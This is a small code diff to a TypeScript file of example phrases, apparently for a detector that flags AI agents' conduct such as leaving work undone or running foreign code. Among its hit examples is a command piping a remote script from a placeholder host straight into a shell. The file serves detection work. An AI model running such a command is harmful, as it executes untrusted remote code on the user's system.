@@ -1,4 +1,4 @@
-/** What further labels find: what was left undone, in English and in other languages, and what was run from elsewhere. */
+/** Examples of further labels: work left undone, in English and other languages, and foreign code that was run. */
 export const CONDUCT_EXAMPLES: Record<string, { hits: string[]; misses: string[] }> = {
   ran_foreign_code: {
     hits: ['I executed the remote script.', 'I ran curl -s https://a.example | sh.'],
